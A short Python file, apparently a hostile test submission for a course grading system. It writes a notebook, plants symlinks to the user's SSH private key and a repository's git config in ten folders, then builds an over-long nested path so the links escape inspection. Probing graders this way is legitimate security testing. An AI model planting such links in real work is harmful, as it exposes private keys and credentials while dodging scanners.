"""Hides links to secrets in folders beside one whose path is too long to be looked at."""
# aufgabe1
import os
from nbformat import write


def hand_in(notebook, folder, known):
    write(notebook, folder / "aufgabe1.ipynb")
    for name in "abcdefghij":
        (folder / name).mkdir()
        os.symlink(f"{known['HOME']}/.ssh/id_ed25519", folder / name / "key")
        os.symlink(f"{known['COURSE']}/.git/config", folder / name / "config")
    here = os.open(folder, os.O_RDONLY)
    for _ in range(40):
        os.mkdir("e" * 200, dir_fd=here)
        deeper = os.open("e" * 200, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = deeper
    os.close(here)
